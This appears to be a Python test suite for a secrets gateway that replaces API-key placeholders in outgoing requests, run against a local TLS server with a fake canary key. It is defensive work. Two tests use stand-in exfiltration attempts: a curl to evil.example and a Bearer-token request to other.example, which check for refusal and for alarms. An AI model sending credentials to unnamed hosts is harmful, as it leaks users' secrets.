"""The gateway's commands, driven as a person and an agent drive them, against a TLS server of the test's own."""

import json
import os
import shutil
import signal
import socket
import ssl
import subprocess
import threading
import unittest
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

from harness import PALE, Test, sh

REAL = b"sk-proj-RealCanary0123456789RealCanary0123456789ab"
HOST = "api.openai.com"
CALL = f'curl -sS -H "Authorization: Bearer $OPENAI_API_KEY" https://{HOST}/v1/models'


class Upstream(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    seen = []

    def do_GET(self):
        self.seen.append(self.headers.get("Authorization"))
        body = f"you sent {self.headers.get('Authorization')}\n".encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    do_POST = do_GET

    def log_message(self, *args):
        pass


def certificates(folder):
    """An authority and a certificate for HOST."""

    def openssl(*args):
        subprocess.run(("openssl", *args), cwd=folder, check=True, capture_output=True)

    key = ("-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes")
    openssl("req", "-x509", *key, "-keyout", "ca.key", "-out", "ca.pem", "-days", "30", "-subj", "/CN=Test",
            "-addext", "basicConstraints=critical,CA:TRUE")
    openssl("req", *key, "-keyout", "s.key", "-out", "s.csr", "-subj", f"/CN={HOST}")
    (folder / "ext").write_text(f"subjectAltName=DNS:{HOST}\n")
    openssl("x509", "-req", "-in", "s.csr", "-CA", "ca.pem", "-CAkey", "ca.key", "-CAcreateserial", "-out", "s.pem",
            "-days", "20", "-extfile", "ext")


@unittest.skipUnless(shutil.which("openssl") and shutil.which("curl"), "needs openssl and curl")
class GatewayTest(Test):
    @classmethod
    def prepare(cls, home):
        home.init()
        home.set("OPENAI_API_KEY", REAL)
        home.set("OTHER", b"another-secret-of-the-test")
        home.toml('[secrets.OPENAI_API_KEY]\ndeliver = "gateway"\n')
        certificates(home.tmp)
        cls.server = ThreadingHTTPServer(("127.0.0.1", 0), Upstream)
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(home.tmp / "s.pem", home.tmp / "s.key")
        cls.server.socket = context.wrap_socket(cls.server.socket, server_side=True)
        threading.Thread(target=cls.server.serve_forever, daemon=True).start()
        config = home.pale_home / "config" / "config.toml"
        config.write_text(
            f'[gateway]\nupstream_ca = ["{home.tmp / "ca.pem"}"]\n'
            f'[gateway.connect]\n"{HOST}:443" = "127.0.0.1:{cls.server.server_address[1]}"\n'
        )
        config.chmod(0o600)

    @classmethod
    def tearDownClass(cls):
        cls.server.shutdown()
        super().tearDownClass()

    def setUp(self):
        super().setUp()
        Upstream.seen.clear()

    def gateway(self, *args, **more):
        return self.pale("gateway", *args, **more)

    def test_the_command_holds_a_placeholder_and_the_server_gets_the_value(self):
        result = self.gateway("run", "--", *sh(f"env; {CALL}; exit 7"))
        self.assertStatus(7, result)
        self.assertEqual([f"Bearer {REAL.decode()}"], Upstream.seen)
        self.assertNotIn(REAL, result.out + result.err)
        self.assertNotIn(b"OTHER=", result.out)
        self.assertIn("you sent Bearer sk-", result.text)
        self.assertIn("advisory", result.errors)
        self.assertIn("1 other secret is left out", result.errors)
        self.assertIn(f"OPENAI_API_KEY left once, to {HOST}", result.errors)
        self.assertEqual([], os.listdir(self.home.pale_home / "runtime" / "gateway"))

    def test_hosts_that_nothing_names_are_refused_and_the_log_has_a_row(self):
        result = self.gateway("run", "--", *sh("curl -sS https://evil.example/; true"))
        self.assertStatus(0, result)
        log = self.gateway("log", "--refused", "--json")
        row = json.loads(log.out.splitlines()[-1])
        self.assertEqual(("evil.example", "host-not-allowed"), (row["host"].split(":")[0], row["code"]))
        self.assertStatus(0, self.gateway("log", "verify"))

    def test_a_placeholder_for_another_host_is_an_alarm(self):
        home = self.home
        config = home.pale_home / "config" / "config.toml"
        before = config.read_text()
        config.write_text(before + '[[gateway.rules]]\nhosts = ["other.example"]\naction = "allow"\n')
        try:
            result = self.gateway("run", "--", *sh(
                'curl -sS -o /dev/null -w "%{http_code}" -H "Authorization: Bearer $OPENAI_API_KEY" https://other.example/'))
        finally:
            config.write_text(before)
        self.assertIn("403", result.text)
        self.assertIn("1 alarm", result.errors)
        audit = self.pale("audit", "--denied", "--event", "gateway", "--json")
        self.assertIn("placeholder-wrong-host", audit.text)

    def test_explain_inside_asks_the_gateway_that_runs(self):
        result = self.gateway("run", "--", str(PALE), "gateway", "explain", f"https://{HOST}/v1", "--json",
                              env={"PALE_HOME": str(self.home.pale_home)})
        self.assertStatus(0, result)
        answer = json.loads(result.out)
        self.assertTrue(answer["live"] and answer["allowed"])
        self.assertEqual("OPENAI_API_KEY", answer["secrets"][0]["name"])

    def test_json_tells_the_proof_on_standard_error(self):
        result = self.gateway("run", "--json", "--", *sh(CALL))
        self.assertStatus(0, result)
        lines = [json.loads(line)["gateway"] for line in result.err.splitlines() if b'"gateway"' in line]
        self.assertEqual(["started", "ended"], [line["event"] for line in lines])
        secret = lines[1]["secrets"][0]
        self.assertEqual(("OPENAI_API_KEY", 1, 1), (secret["name"], secret["left"], secret["returned"]))

    def test_failures_have_the_statuses_of_run(self):
        self.assertStatus(127, self.gateway("run", "--", "no-such-command-here"))
        self.assertStatus(2, self.gateway("run"))
        self.assertStatus(125, self.gateway("run", "--only", "NOBODY", "--", "true"))
        self.assertStatus(143, self.gateway("run", "--", *sh("kill -TERM $$")))

    def test_a_callers_copy_of_the_value_is_taken_out(self):
        result = self.gateway("run", "--", "env", env={"MY_COPY": b"Bearer " + REAL, "OPENAI_API_KEY": REAL})
        self.assertStatus(0, result)
        self.assertNotIn(REAL, result.out)
        self.assertIn("MY_COPY", result.errors)

    def test_serve_gives_each_client_its_own_and_ends_cleanly(self):
        with socket.socket() as free:
            free.bind(("127.0.0.1", 0))
            port = free.getsockname()[1]
        process = self.home.start(str(PALE), "gateway", "serve", "--listen", f"127.0.0.1:{port}", "--client", "a",
                                  "--client", "b", "--out", str(self.home.tmp / "clients"), "--json")
        told = json.loads(process.stdout.readline())
        files = [c["env"] for c in told["clients"]]
        texts = [open(f).read() for f in files]
        self.assertNotIn(REAL.decode(), "".join(texts))
        self.assertNotEqual(*[next(l for l in t.splitlines() if l.startswith("OPENAI")) for t in texts])
        self.assertEqual({0o600}, {os.stat(f).st_mode & 0o777 for f in files})
        called = self.home.call("sh", "-c", f'set -a; . "{files[1]}"; {CALL}')
        self.assertEqual([f"Bearer {REAL.decode()}"], Upstream.seen, called)
        process.send_signal(signal.SIGTERM)
        out, err = process.communicate(timeout=60)
        self.assertEqual(0, process.returncode, err)
        self.assertFalse(os.path.exists(files[0]))

    def test_when_the_gateway_is_killed_the_command_has_neither_network_nor_value(self):
        script = f'echo $PPID; sleep 1; while kill -0 $PPID 2>/dev/null; do sleep 0.1; done; {CALL} 2>&1; env'
        process = self.home.start(str(PALE), "gateway", "run", "--", "sh", "-c", script)
        parent = int(process.stdout.readline())
        os.kill(parent, signal.SIGKILL)
        out = process.stdout.read()
        self.assertEqual([], Upstream.seen)
        self.assertNotIn(REAL, out)

    def test_the_demo_tells_its_story_and_leaves_nothing(self):
        scratch = self.home.root / "scratch"
        scratch.mkdir()
        environment = {"PATH": os.environ["PATH"], "HOME": str(self.home.root), "TMPDIR": str(scratch), "LANG": "C.UTF-8"}
        done = subprocess.run([str(PALE), "demo"], env=environment, stdin=subprocess.DEVNULL, capture_output=True, timeout=200)
        self.assertEqual(0, done.returncode, done.stderr.decode() + done.stdout.decode()[-1500:])
        self.assertIn(b"the audit log is intact", done.stdout)
        self.assertEqual([], list(scratch.iterdir()))


if __name__ == "__main__":
    unittest.main()
